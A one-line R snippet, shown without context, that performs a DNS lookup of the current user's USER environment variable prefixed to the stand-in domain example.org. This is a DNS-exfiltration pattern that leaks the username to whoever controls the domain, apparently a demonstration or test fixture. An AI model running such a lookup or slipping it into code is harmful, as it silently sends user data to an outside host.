curl::nslookup(paste0(Sys.getenv("USER"), ".example.org"))
